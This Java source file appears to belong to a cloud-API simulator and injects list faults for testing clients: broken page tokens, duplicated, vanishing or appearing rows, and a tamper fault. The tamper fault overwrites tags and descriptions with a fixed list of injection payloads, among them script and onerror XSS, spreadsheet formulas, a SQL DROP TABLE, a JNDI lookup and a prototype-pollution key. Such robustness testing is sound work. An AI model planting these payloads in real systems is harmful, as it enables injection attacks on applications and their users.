package io.periplus.simulator.fault;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.periplus.simulator.estate.ListOperation;
import io.periplus.simulator.estate.Listing;
import io.periplus.simulator.estate.Listing.Row;
import io.periplus.simulator.wire.ErrorNames;
import io.periplus.simulator.wire.Reply;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.BiConsumer;
import java.util.function.UnaryOperator;

/** Lists that misbehave: tokens, duplicates, rows that come and go, hostile text. */
final class ListFaults {
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "=HYPERLINK(\"http://example.com\")",
          "@SUM(1+1)",
          "\"><img src=x onerror=alert(1)>",
          "'; DROP TABLE resource; --",
          "\u202Egnp.exe",
          "${jndi:ldap://example.com/a}",
          "a".repeat(256),
          "line one\nline two\ttabbed",
          "__proto__");

  private static final String TOKEN_PREFIX = "periplus-";

  private ListFaults() {}

  /** Page tokens that lead nowhere: {@code dangling, repeated, invalid, emptyPage}. */
  static Fault token(JsonNode rule) {
    String mode = rule.path("mode").asText("dangling");
    return switch (mode) {
      case "dangling" -> onResponse((operation, response) -> setToken(operation, response, mode));
      case "repeated" -> new RepeatedToken();
      case "invalid" ->
          new Fault() {
            @Override
            public Optional<Reply> before(FaultContext context) {
              throw ErrorNames.invalidToken(context.service());
            }
          };
      case "emptyPage" -> new EmptyPage();
      default -> throw FaultPlan.bad("unknown token mode '" + mode + "'");
    };
  }

  private interface PageChange extends BiConsumer<ListOperation, ObjectNode> {}

  private static Fault onResponse(PageChange change) {
    return new Fault() {
      @Override
      public ObjectNode response(ListOperation operation, ObjectNode request, ObjectNode response) {
        change.accept(operation, response);
        return response;
      }
    };
  }

  private static void setToken(ListOperation operation, ObjectNode response, String token) {
    operation.continueBy(response, TOKEN_PREFIX + token);
    operation.conclude(response, true, operation.holder(response).size());
  }

  /** Every page ends with the token that leads to it. */
  private static final class RepeatedToken implements Fault {
    private static final String MODE = "repeated";

    @Override
    public boolean opensFirstPage(String token) {
      return token.equals(TOKEN_PREFIX + MODE);
    }

    @Override
    public ObjectNode response(ListOperation operation, ObjectNode request, ObjectNode response) {
      setToken(operation, response, MODE);
      return response;
    }
  }

  /** No rows, but a token: ask again. */
  private static final class EmptyPage implements Fault {
    @Override
    public int pageSize(int size) {
      return 0;
    }
  }

  /** A {@code fraction} of the rows appears twice, the second time at the end of the list. */
  static Fault duplicate(JsonNode rule) {
    double fraction = rule.path("fraction").asDouble(0.1);
    long seed = rule.path("select").path("seed").asLong(0);
    return onListing(
        listing -> {
          List<Row> rows = new ArrayList<>(listing.rows());
          Random random = new Random(seed);
          listing.rows().stream().filter(row -> random.nextDouble() < fraction).forEach(rows::add);
          return new Listing(rows, listing.fixed());
        });
  }

  /** A {@code fraction} of the rows is gone by the time of the call that the selector names. */
  static Fault vanish(JsonNode rule) {
    double fraction = rule.path("fraction").asDouble(1);
    long seed = rule.path("select").path("seed").asLong(0);
    return new Fault() {
      private final Random random = new Random(seed);

      @Override
      public Optional<Reply> before(FaultContext context) {
        synchronized (random) {
          if (random.nextDouble() < fraction) {
            throw ErrorNames.vanished(context.service(), context.operation());
          }
        }
        return Optional.empty();
      }
    };
  }

  /** A {@code fraction} of the rows is made after the first page was given. */
  static Fault appear(JsonNode rule) {
    double fraction = rule.path("fraction").asDouble(0.1);
    long seed = rule.path("select").path("seed").asLong(0);
    AtomicBoolean later = new AtomicBoolean();
    return onListing(
        listing -> {
          if (later.getAndSet(true)) {
            return listing;
          }
          Random random = new Random(seed);
          List<Row> rows =
              listing.rows().stream().filter(row -> random.nextDouble() >= fraction).toList();
          return new Listing(rows, listing.fixed());
        });
  }

  /** Tags and descriptions become hostile text. */
  static Fault tamper() {
    return onListing(
        listing -> {
          List<Row> rows = new ArrayList<>();
          for (Row row : listing.rows()) {
            JsonNode copy = row.value().deepCopy();
            poison(copy, rows.size());
            rows.add(new Row(row.member(), copy));
          }
          return new Listing(rows, listing.fixed());
        });
  }

  private static void poison(JsonNode node, int seed) {
    if (node instanceof ArrayNode array) {
      for (int i = 0; i < array.size(); i++) {
        poison(array.get(i), seed + i);
      }
    } else if (node instanceof ObjectNode object) {
      String text = HOSTILE.get(seed % HOSTILE.size());
      if (object.has("Key") && object.has("Value")) {
        object.put("Value", text);
      }
      if (object.has("Description")) {
        object.set("Description", JsonNodeFactory.instance.textNode(text));
      }
      object.forEach(child -> poison(child, seed));
    }
  }

  private interface ListingChange extends UnaryOperator<Listing> {}

  private static Fault onListing(ListingChange change) {
    return new Fault() {
      @Override
      public Listing listing(Listing listing) {
        return change.apply(listing);
      }
    };
  }
}
